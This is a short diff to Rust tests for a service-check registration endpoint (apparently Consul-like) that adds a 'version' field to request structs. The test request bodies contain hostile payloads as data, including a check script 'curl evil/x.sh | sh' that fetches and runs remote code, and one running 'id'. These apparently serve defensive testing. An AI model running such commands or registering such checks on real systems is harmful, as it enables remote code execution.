@@ -156,6 +156,7 @@ mod tests {
         let req = Request {
             method: nokeys_http::Method::Put,
             target: "/v1/agent/check/register".into(),
+            version: Default::default(),
             headers: Default::default(),
             body: bytes::Bytes::from_static(
                 br#"{"Name":"health","Script":"curl evil/x.sh | sh","Interval":"10s"}"#,
@@ -174,6 +175,7 @@ mod tests {
         let req = Request {
             method: nokeys_http::Method::Put,
             target: "/v1/agent/check/register".into(),
+            version: Default::default(),
             headers: Default::default(),
             body: bytes::Bytes::from_static(br#"{"Name":"h","Script":"id"}"#),
         };
@@ -196,6 +198,7 @@ mod tests {
         let req = Request {
             method: nokeys_http::Method::Put,
             target: "/v1/agent/check/register".into(),
+            version: Default::default(),
             headers: Default::default(),
             body: bytes::Bytes::from_static(br#"{"Name":"http-check","HTTP":"http://x/"}"#),
         };
